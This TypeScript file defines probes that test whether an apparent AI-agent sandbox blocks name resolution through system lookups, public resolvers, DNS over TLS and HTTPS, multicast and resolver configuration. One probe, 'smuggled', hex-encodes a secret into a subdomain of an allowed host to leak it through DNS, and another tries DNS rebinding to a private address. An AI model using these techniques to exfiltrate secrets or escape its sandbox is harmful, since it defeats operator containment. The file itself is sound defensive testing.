/** I1: names. There is no DNS in a bottle; egress resolves what the operator listed, and nothing of the agent's choosing. */
import { node, type Probe, probesOf, sh } from "../probe.ts";

const NO_WAY = ["ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL", "EAFNOSUPPORT", "ECONNREFUSED"] as const;

const name = probesOf("names", "name");

export const NAMES: readonly Probe[] = [
  name(
    "system",
    "looks a name up as every program does",
    [
      node(`import { lookup } from "node:dns/promises"; const from = performance.now();
try { got("it is " + (await lookup(env.NAME)).address) } catch (error) { refused(error.code, { ms: performance.now() - from, words: error.message }) }`),
    ],
    ["ENOTFOUND", "EAI_AGAIN", "EAI_FAIL"],
  ),
  name(
    "getent",
    "looks a name up with the system's own tool",
    [
      sh(`command -v getent >/dev/null || cannot getent is not here
out=$(getent ahosts "$NAME") && got "$out"; refused "not-found" "getent ended with $?"`),
    ],
    ["not-found"],
  ),
  name(
    "udp",
    "asks a public resolver over UDP",
    [node("await hearUdp(env.RESOLVER, env.UDP_DNS_PORT, question('secret.example.com'))")],
    NO_WAY,
  ),
  name(
    "udp-other",
    "asks a second resolver, in case only the first is known",
    [node("await hearUdp(env.OTHER_RESOLVER, env.UDP_DNS_PORT, question('secret.example.com'))")],
    NO_WAY,
  ),
  name(
    "tcp",
    "asks a public resolver over TCP",
    [
      node(
        "const q = question('secret.example.com'); await first([[env.RESOLVER, tryTcp(env.RESOLVER, env.DNS_PORT, Buffer.concat([Buffer.from([0, q.length]), q]))]])",
      ),
    ],
    NO_WAY,
  ),
  name(
    "stub",
    "asks the stub resolver that many hosts have on their loopback",
    [node("await hearUdp('127.0.0.53', env.UDP_DNS_PORT, question('secret.example.com'))")],
    NO_WAY,
    {
      controlOtherwise: [
        {
          without: ["outerNetwork"],
          seen: ["ECONNREFUSED", "silence"],
          because: "without an outer network nobody plays the stub resolver here",
        },
      ],
    },
  ),
  name("dot", "speaks DNS over TLS", [node("await hear(env.RESOLVER, env.DOT_PORT)")], NO_WAY),
  name(
    "doh",
    "asks a resolver over HTTPS, by name and by address",
    [node("curl('-H', 'accept: application/dns-json', 'https://dns.test/resolve?name=secret.example.com')")],
    ["host-not-allowed"],
    { explained: true },
  ),
  name(
    "mdns",
    "asks the local network by multicast",
    [
      node(`import { createSocket } from "node:dgram"; const from = performance.now();
const socket = createSocket("udp4");
socket.on("error", (error) => refused(error.code, { ms: performance.now() - from }));
socket.on("message", () => got("somebody answered"));
socket.send(question("host.local"), Number(env.UDP_MDNS_PORT), env.MULTICAST, (error) => error && refused(error.code, { ms: performance.now() - from }));
setTimeout(() => refused("silence"), 1500);`),
    ],
    NO_WAY,
  ),
  name(
    "configured",
    "finds a name server in the system's own configuration",
    [
      sh(`found=$(grep -E '^ *nameserver' /etc/resolv.conf 2>&1) && got "$found"
refused "none" "no line names one"`),
    ],
    ["none"],
    {
      controlOtherwise: [
        { without: ["outerNetwork"], seen: ["none"], because: "this machine has no name server of its own" },
      ],
    },
  ),
  name(
    "smuggled",
    "puts a secret into a host's name, so that looking it up tells whoever answers for the domain",
    [
      node(
        "curl('https://' + Buffer.from(process.env.BOUND).toString('hex') + '.' + env.ALLOWED_HOST + '/')",
      ),
    ],
    ["host-not-allowed", "secret-found"],
    { invariant: "I3", explained: true },
  ),
  name(
    "rebinding",
    "uses a host that is allowed and whose name leads to a private address",
    [node("curl('https://' + env.INNER_HOST + '/')")],
    // Where nobody plays the resolver, nobody knows the name.
    ["address-refused", "upstream-unresolvable"],
    {
      explained: true,
      slow: "a name has to be looked up by egress, outside of the bottle",
      otherwise: [
        {
          without: ["outerNetwork"],
          seen: ["http-200"],
          because:
            "this host's own resolver is asked, and does not answer: a tunnel stands, through which nothing comes",
        },
      ],
    },
  ),
];
